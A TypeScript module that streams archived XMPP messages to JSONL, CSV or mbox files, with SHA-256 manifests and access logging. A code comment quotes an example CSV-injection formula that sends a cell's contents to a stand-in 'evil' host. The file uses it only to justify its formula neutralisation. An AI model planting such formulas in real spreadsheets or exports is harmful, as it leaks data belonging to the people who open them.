// eDiscovery export: every archived message meeting the archive search's filters, streamed as
// one file (JSON Lines, CSV or an mbox of RFC 5322 messages) with a manifest (the `exports`
// table, migrations/0008) holding the count, byte length and SHA-256 of exactly the bytes sent.
//
// Constant memory for any number of rows: the archive is walked oldest first in keyset batches
// on (ts, id) (archive-search.ts readArchive — the search's own filters and query plan), one
// statement per batch, never a server-side cursor (the embedded store serves one connection at
// a time, and a portal held open across batches would block every other query for the whole
// export). Batches are produced only when the consumer pulls (exportRun().stream is a Readable
// over an async generator), so a slow client slows the walk instead of filling memory.
//
// Order: oldest first, (ts, id) — the order a reviewer reads a matter in and the order the
// writers' hash chains grow; each row carries its chain, sequence and hash so any message in a
// produced file can be checked against the archive (GET /api/v1/archive/verify).
import { createHash } from 'node:crypto';
import { Readable } from 'node:stream';
import type { Sql } from 'postgres';
import type { Principal } from '../api/principal.ts';
import { silentLogger, type Logger } from '../log.ts';
import { MAX_LOGGED_MESSAGE_IDS, type AccessLog } from './access-log.types.ts';
import { readArchive, type ArchiveCursor, type ArchiveRecord, type ArchiveSearchFilters, type ArchiveSearchQuery } from './archive-search.ts';

export type ExportFormat = 'jsonl' | 'csv' | 'eml';
export const EXPORT_FORMATS: readonly ExportFormat[] = ['jsonl', 'csv', 'eml'];
export const DEFAULT_EXPORT_BATCH = 1000;

/** The search filters of an export: the archive search's, without paging. */
export type ExportFilters = ArchiveSearchFilters;

// ---------------------------------------------------------------------------------------------
// Formats (pure)

export interface ExportFormatter {
  readonly contentType: string;
  /** File name extension. */
  readonly extension: string;
  /** Bytes before the first message (CSV's header row), '' for none. */
  readonly head: string;
  /** One message, with its terminator. */
  message(r: ArchiveRecord): string;
}

/** The fields every format carries, in this order (CSV's columns). */
export const EXPORT_FIELDS = [
  'id',
  'ts',
  'from',
  'to',
  'type',
  'direction',
  'verdict',
  'matches',
  'body',
  'thread',
  'policyVersion',
  'chain',
  'chainSeq',
  'hash',
] as const;

type ExportRow = Record<(typeof EXPORT_FIELDS)[number], unknown>;

function exportRow(r: ArchiveRecord): ExportRow {
  const m = r.message;
  return {
    id: m.id,
    ts: m.ts.toISOString(),
    from: m.from,
    to: m.to,
    type: m.type,
    direction: m.direction,
    verdict: m.verdict,
    matches: m.matches,
    body: m.body,
    thread: m.thread,
    policyVersion: m.policyVersion,
    chain: r.chain?.chain ?? null,
    chainSeq: r.chain?.chainSeq ?? null,
    hash: r.chain?.hash ?? null,
  };
}

/** JSON Lines: one JSON object per message and line (JSON.stringify escapes newlines in strings). Lossless. */
export function jsonlLine(r: ArchiveRecord): string {
  return JSON.stringify(exportRow(r)) + '\n';
}

// Spreadsheet programs evaluate a cell that starts with one of these as a formula: a body like
// `=HYPERLINK("http://evil/?"&A1,"click")` or `@SUM(…)` would run when an officer opens the
// export in Excel or LibreOffice (CSV injection, OWASP). A leading apostrophe makes the program
// show the text as it is. Tab and CR are on the same list because some programs strip them and
// then see the next character. The price: such a cell's text gains a leading ' — the JSON Lines
// export is the lossless one.
const FORMULA_START = /^[=+\-@\t\r]/;

/** One CSV cell, RFC 4180 §2: always quoted, inner quotes doubled; formula-neutralised. */
export function csvCell(value: unknown): string {
  let text = value === null || value === undefined ? '' : typeof value === 'string' ? value : typeof value === 'object' ? JSON.stringify(value) : String(value);
  if (FORMULA_START.test(text)) text = `'${text}`;
  return `"${text.replace(/"/g, '""')}"`;
}

/** One CSV record, RFC 4180 §2: cells joined by commas, ended by CRLF. */
export function csvRecord(cells: readonly unknown[]): string {
  return cells.map(csvCell).join(',') + '\r\n';
}

export function csvLine(r: ArchiveRecord): string {
  const row = exportRow(r);
  return csvRecord(EXPORT_FIELDS.map((f) => row[f]));
}

// The UTF-8 byte order mark: without it Excel reads a CSV file in the machine's legacy code page
// and shows Chinese as mojibake. RFC 4180 neither needs nor forbids it.
const UTF8_BOM = '\uFEFF';
export const CSV_HEAD = UTF8_BOM + csvRecord(EXPORT_FIELDS);

const DAYS = ['Sun', 'Mon', 'Tue', 'Wed', 'Thu', 'Fri', 'Sat'];
const MONTHS = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const pad2 = (n: number) => String(n).padStart(2, '0');
const hms = (d: Date) => `${pad2(d.getUTCHours())}:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())}`;

/** RFC 5322 §3.3 date-time in UTC: `Fri, 01 Mar 2024 00:00:03 +0000`. */
export function rfc5322Date(d: Date): string {
  return `${DAYS[d.getUTCDay()]}, ${pad2(d.getUTCDate())} ${MONTHS[d.getUTCMonth()]} ${d.getUTCFullYear()} ${hms(d)} +0000`;
}

/** C asctime() in UTC, the date of an mbox "From " line (RFC 4155 App. A): `Fri Mar  1 00:00:03 2024`. */
export function asctime(d: Date): string {
  return `${DAYS[d.getUTCDay()]} ${MONTHS[d.getUTCMonth()]} ${String(d.getUTCDate()).padStart(2, ' ')} ${hms(d)} ${d.getUTCFullYear()}`;
}

// RFC 2047 §2: an encoded-word is at most 75 characters; `=?UTF-8?B?` + `?=` leave 63 for
// base64, i.e. 45 bytes of UTF-8 (a multiple of 3, so no padding inside a word).
const WORD_BYTES = 45;

/** `text` as RFC 2047 B encoded-words (UTF-8), split between characters, separated by spaces (where headerField folds). */
export function encodedWords(text: string): string {
  const words: string[] = [];
  let chunk: Buffer[] = [];
  let size = 0;
  for (const ch of text) {
    const bytes = Buffer.from(ch, 'utf8');
    if (size + bytes.length > WORD_BYTES) {
      words.push(Buffer.concat(chunk).toString('base64'));
      chunk = [];
      size = 0;
    }
    chunk.push(bytes);
    size += bytes.length;
  }
  if (size > 0 || words.length === 0) words.push(Buffer.concat(chunk).toString('base64'));
  // Whitespace between adjacent encoded-words is not part of the text (RFC 2047 §6.2).
  return words.map((w) => `=?UTF-8?B?${w}?=`).join(' ');
}

const PRINTABLE_ASCII = /^[\x20-\x7e]*$/;
// RFC 5322 §2.1.1: lines SHOULD be at most 78 characters (and MUST be at most 998).
const LINE = 78;

/** Folds a header line at spaces (RFC 5322 §2.2.3: unfolding removes the line breaks and keeps the space). */
export function fold(line: string): string {
  if (line.length <= LINE) return line;
  const [first = '', ...rest] = line.split(' ');
  let out = first;
  let width = first.length;
  for (const part of rest) {
    if (width + 1 + part.length > LINE) {
      out += `\n ${part}`;
      width = 1 + part.length;
    } else {
      out += ` ${part}`;
      width += 1 + part.length;
    }
  }
  return out;
}

/**
 * One header field, folded. Unstructured values (RFC 5322 §3.2.5) stay as they are when they
 * are printable ASCII that folds into short lines; anything else (UTF-8, a long unbroken token,
 * text that looks like an encoded-word) becomes RFC 2047 encoded-words. Structured values are
 * the caller's to make valid.
 */
export function headerField(name: string, value: string, structured = false): string {
  if (structured) return fold(`${name}: ${value}`);
  if (PRINTABLE_ASCII.test(value) && !value.includes('=?')) {
    const folded = fold(`${name}: ${value}`);
    if (folded.split('\n').every((l) => l.length <= LINE)) return folded;
  }
  return fold(`${name}: ${encodedWords(value)}`);
}

const bareOf = (jid: string) => {
  const slash = jid.indexOf('/');
  return slash < 0 ? jid : jid.slice(0, slash);
};

/** An address with the full JID as display name (RFC 5322 §3.4) when it has a resource. */
function mailbox(jid: string): string {
  const bare = bareOf(jid);
  if (bare === jid) return `<${bare}>`;
  // A resource may hold anything (RFC 7622 §3.4): quote plain ones, encode the rest (RFC 2047 §5(3)).
  const name = PRINTABLE_ASCII.test(jid) && !/["\\]/.test(jid) ? `"${jid}"` : encodedWords(jid);
  return `${name} <${bare}>`;
}

// RFC 5322 §3.6.4: msg-id is "<" dot-atom-text "@" ... ">".
const DOT_ATOM = /^[A-Za-z0-9!#$%&'*+/=?^_`{|}~-]+(\.[A-Za-z0-9!#$%&'*+/=?^_`{|}~-]+)*$/;

function messageId(stanzaId: string, domain: string): string {
  const left = DOT_ATOM.test(stanzaId) ? stanzaId : `b64.${Buffer.from(stanzaId, 'utf8').toString('base64url')}`;
  return `<${left}@${domain}>`;
}

/** mboxrd (RFC 4155 §2's ">From " escaping, reversible): every line matching /^>*From / gains one '>'. */
export function mboxrdQuote(text: string): string {
  return text.replace(/^(>*From )/gm, '>$1');
}

/** base64 in lines of 76 characters (RFC 2045 §6.8). */
function base64Lines(data: Buffer): string {
  const b64 = data.toString('base64');
  const lines: string[] = [];
  for (let i = 0; i < b64.length; i += 76) lines.push(b64.slice(i, i + 76));
  return lines.join('\n');
}

/**
 * One message of the mbox: a "From " separator line (sender, asctime), the RFC 5322 message,
 * and the blank line that ends it (RFC 4155 App. A). Lines end with LF, as in mbox files
 * written by Unix mail tools (readers restore CRLF when they hand a message on). The body is a
 * UTF-8 text/plain part in base64 (RFC 2045 §6.8), so Chinese and any other text survives
 * every reader, and no body line can start with "From "; mboxrd quoting is applied all the same.
 * X-Warden-* headers carry what RFC 5322 has no field for.
 */
export function mboxMessage(r: ArchiveRecord, domain: string): string {
  const m = r.message;
  const fromBare = bareOf(m.from);
  const toBare = bareOf(m.to);
  // The "From " line's address must be one token: anything else gets the traditional placeholder.
  const envelope = /^[\x21-\x7e]+$/.test(fromBare) ? fromBare : 'MAILER-DAEMON';
  const headers: [string, string][] = [
    ['From', mailbox(m.from)],
    ['To', mailbox(m.to)],
    ['Date', rfc5322Date(m.ts)],
    ['Message-ID', messageId(m.id, domain)],
    ['Subject', `XMPP ${m.type} message from ${fromBare} to ${toBare}`],
    ['MIME-Version', '1.0'],
    ['Content-Type', 'text/plain; charset=utf-8'],
    ['Content-Transfer-Encoding', 'base64'],
    ['X-Warden-Stanza-Id', m.id],
    ['X-Warden-Timestamp', m.ts.toISOString()],
    ['X-Warden-Type', m.type],
    ['X-Warden-Direction', m.direction],
    ['X-Warden-Verdict', m.verdict],
    ['X-Warden-Policy-Version', String(m.policyVersion)],
  ];
  if (m.thread !== null) headers.push(['X-Warden-Thread', m.thread]);
  if (m.matches.length > 0) headers.push(['X-Warden-Matches', JSON.stringify(m.matches)]);
  if (r.chain !== undefined) headers.push(['X-Warden-Chain', `${r.chain.chain} ${r.chain.chainSeq} ${r.chain.hash}`]);
  const structured = new Set(['From', 'To', 'Date', 'Message-ID', 'MIME-Version', 'Content-Type', 'Content-Transfer-Encoding']);
  const head = headers.map(([name, value]) => headerField(name, value, structured.has(name))).join('\n');
  // RFC 2045 §6.8: text line breaks become CRLF before base64 encoding.
  const body = base64Lines(Buffer.from((m.body ?? '').replace(/\r?\n/g, '\r\n'), 'utf8'));
  return `From ${envelope} ${asctime(m.ts)}\n${mboxrdQuote(`${head}\n\n${body}`)}\n\n`;
}

export function exportFormatter(format: ExportFormat, domain: string): ExportFormatter {
  switch (format) {
    case 'jsonl':
      return { contentType: 'application/x-ndjson; charset=utf-8', extension: 'jsonl', head: '', message: jsonlLine };
    case 'csv':
      // RFC 4180 §3 / RFC 7111: text/csv with charset and header parameters.
      return { contentType: 'text/csv; charset=utf-8; header=present', extension: 'csv', head: CSV_HEAD, message: csvLine };
    case 'eml':
      return { contentType: 'application/mbox', extension: 'mbox', head: '', message: (r) => mboxMessage(r, domain) };
  }
}

// ---------------------------------------------------------------------------------------------
// The walk

/** Every row meeting `filters`, oldest first, in batches of at most `batchSize`, each read when the consumer asks for it. */
export async function* walkArchive(sql: Sql, filters: ExportFilters, batchSize = DEFAULT_EXPORT_BATCH): AsyncGenerator<ArchiveRecord[]> {
  let cursor: ArchiveCursor | undefined;
  for (;;) {
    const query: ArchiveSearchQuery = { ...filters, limit: batchSize, ...(cursor !== undefined && { cursor }) };
    const { records, more } = await readArchive(sql, query, { order: 'oldest-first', withChain: true });
    const last = records[records.length - 1];
    if (last !== undefined) yield records;
    if (!more || last === undefined) return;
    cursor = last.key;
  }
}

// ---------------------------------------------------------------------------------------------
// Manifests (the `exports` table)

export type ExportStatus = 'running' | 'complete' | 'failed';

export interface ExportManifest {
  readonly id: string;
  readonly account: string;
  readonly format: ExportFormat;
  /** The filters the file holds, `until` included (the moment the export started when none was given). */
  readonly query: Record<string, unknown>;
  readonly status: ExportStatus;
  readonly count: number | null;
  readonly sha256: string | null;
  readonly bytes: number | null;
  readonly createdAt: Date;
  readonly finishedAt: Date | null;
}

interface ManifestRow {
  id: string;
  account: string;
  format: ExportFormat;
  query: Record<string, unknown>;
  status: ExportStatus;
  message_count: string | null;
  sha256: string | null;
  bytes: string | null;
  created_at: Date;
  finished_at: Date | null;
}

const toManifest = (r: ManifestRow): ExportManifest => ({
  id: String(r.id),
  account: r.account,
  format: r.format,
  query: r.query,
  status: r.status,
  count: r.message_count === null ? null : Number(r.message_count),
  sha256: r.sha256,
  bytes: r.bytes === null ? null : Number(r.bytes),
  createdAt: r.created_at,
  finishedAt: r.finished_at,
});

export async function getExport(sql: Sql, id: string): Promise<ExportManifest | undefined> {
  if (!/^[1-9]\d{0,18}$/.test(id)) return undefined;
  const [row] = await sql<ManifestRow[]>`SELECT * FROM exports WHERE id = ${id}::bigint`;
  return row === undefined ? undefined : toManifest(row);
}

/** Newest first; `beforeId` exclusive. One more than `limit` is read to tell whether a next page exists. */
export async function listExports(sql: Sql, opts: { limit: number; beforeId?: string }): Promise<{ items: ExportManifest[]; more: boolean }> {
  const rows = await sql<ManifestRow[]>`
    SELECT * FROM exports ${opts.beforeId === undefined ? sql`` : sql`WHERE id < ${opts.beforeId}::bigint`}
    ORDER BY id DESC LIMIT ${opts.limit + 1}`;
  return { items: rows.slice(0, opts.limit).map(toManifest), more: rows.length > opts.limit };
}

// ---------------------------------------------------------------------------------------------
// One export run

export interface ExportResult {
  readonly count: number;
  readonly bytes: number;
  /** Hex SHA-256 of the bytes produced. */
  readonly sha256: string;
}

export interface ExportRunOptions {
  readonly sql: Sql;
  readonly accessLog: AccessLog;
  readonly principal: Principal;
  readonly ip: string;
  readonly filters: ExportFilters;
  readonly format: ExportFormat;
  /** This server's domain (the mbox Message-IDs). */
  readonly domain: string;
  readonly batchSize?: number;
  /** The moment the export starts; rows from then on are not in it (default: now). */
  readonly now?: Date;
  readonly log?: Logger;
}

export interface ExportRun {
  readonly id: string;
  readonly formatter: ExportFormatter;
  readonly manifest: ExportManifest;
  /** The file; read it once. Destroying it (client gone) marks the export failed. */
  readonly stream: Readable;
  /** Set once the last byte has been produced and the manifest says complete. */
  result(): ExportResult | undefined;
  /** Settles when the run has ended either way and its manifest and access-log entry are written. */
  readonly done: Promise<ExportStatus>;
}

const manifestQuery = (f: ExportFilters): Record<string, unknown> => ({
  ...(f.q !== undefined && { q: f.q }),
  ...(f.user !== undefined && { user: f.user }),
  ...(f.peer !== undefined && { peer: f.peer }),
  ...(f.since !== undefined && { since: f.since.toISOString() }),
  ...(f.until !== undefined && { until: f.until.toISOString() }),
  ...(f.verdict !== undefined && { verdict: f.verdict }),
});

/**
 * Starts an export: writes its manifest (running) and the access-log entry that says who
 * exported what — both before a byte is produced, so an export that is cut off is still on
 * record — and returns the stream. A second access-log entry at the end holds the count, the
 * SHA-256 and the first MAX_LOGGED_MESSAGE_IDS stanza ids (also when the export failed: what was
 * sent until then).
 */
export async function startExport(opts: ExportRunOptions): Promise<ExportRun> {
  const { sql, accessLog, principal, ip, format } = opts;
  const log = opts.log ?? silentLogger;
  const now = opts.now ?? new Date();
  // A fixed end makes the file reproducible from its manifest and lets the walk finish while
  // messages keep arriving.
  const until = opts.filters.until !== undefined && opts.filters.until < now ? opts.filters.until : now;
  const filters: ExportFilters = { ...opts.filters, until };
  const query = manifestQuery(filters);
  const formatter = exportFormatter(format, opts.domain);

  const [row] = await sql<ManifestRow[]>`
    INSERT INTO exports (account, format, query) VALUES (${principal.actor}, ${format}, ${JSON.stringify(query)}::text::jsonb)
    RETURNING *`;
  const manifest = toManifest(row!);
  const id = manifest.id;
  try {
    await accessLog.record({ principal, ip, action: 'export', query: { ...query, format }, detail: { exportId: id, phase: 'start' } });
  } catch (err) {
    await sql`UPDATE exports SET status = 'failed', finished_at = now() WHERE id = ${id}::bigint`.catch(() => {});
    throw err;
  }

  let count = 0;
  let bytes = 0;
  const hash = createHash('sha256');
  const ids: string[] = [];
  let result: ExportResult | undefined;
  let state: 'idle' | 'running' | 'ended' = 'idle';
  let settle: (s: ExportStatus) => void = () => {};
  const done = new Promise<ExportStatus>((resolve) => (settle = resolve));

  const emit = (text: string): Buffer => {
    const chunk = Buffer.from(text, 'utf8');
    hash.update(chunk);
    bytes += chunk.length;
    return chunk;
  };

  const fail = async (): Promise<void> => {
    state = 'ended';
    try {
      await sql`
        UPDATE exports SET status = 'failed', message_count = ${count}, bytes = ${bytes}, finished_at = now()
        WHERE id = ${id}::bigint`;
      await accessLog.record({
        principal, ip, action: 'export', query: { ...query, format }, messageIds: ids, messageCount: count,
        detail: { exportId: id, phase: 'failed', count, bytes },
      });
    } catch (err) {
      log.error('export: could not record the failed export', { exportId: id, error: String(err) });
    }
    settle('failed');
  };

  async function* produce(): AsyncGenerator<Buffer> {
    state = 'running';
    try {
      if (formatter.head !== '') yield emit(formatter.head);
      // since ≥ until (a window in the future): an empty file, not an error half-way through a 200.
      const empty = filters.since !== undefined && filters.since >= until;
      for await (const batch of empty ? [] : walkArchive(sql, filters, opts.batchSize)) {
        let text = '';
        for (const r of batch) {
          text += formatter.message(r);
          if (ids.length < MAX_LOGGED_MESSAGE_IDS) ids.push(r.message.id);
        }
        count += batch.length;
        yield emit(text);
      }
      const end: ExportResult = { count, bytes, sha256: hash.digest('hex') };
      // Written before the stream ends: a client that received the whole file finds the manifest complete.
      await sql`
        UPDATE exports SET status = 'complete', message_count = ${count}, sha256 = ${end.sha256}, bytes = ${bytes}, finished_at = now()
        WHERE id = ${id}::bigint`;
      await accessLog.record({
        principal, ip, action: 'export', query: { ...query, format }, messageIds: ids, messageCount: count,
        detail: { exportId: id, phase: 'complete', count, sha256: end.sha256, bytes },
      });
      result = end;
      state = 'ended';
      settle('complete');
    } finally {
      // Thrown out of (a query failed) or returned from (the client went away) mid-way.
      if (state !== 'ended') await fail();
    }
  }

  // Bytes, not objects: highWaterMark then counts bytes, so at most about one batch is buffered.
  const stream = Readable.from(produce(), { objectMode: false, highWaterMark: 64 * 1024 });
  // Destroyed before its first read: the generator never ran, so its finally will not either.
  stream.once('close', () => {
    if (state === 'idle') void fail();
  });
  return { id, formatter, manifest, stream, result: () => result, done };
}
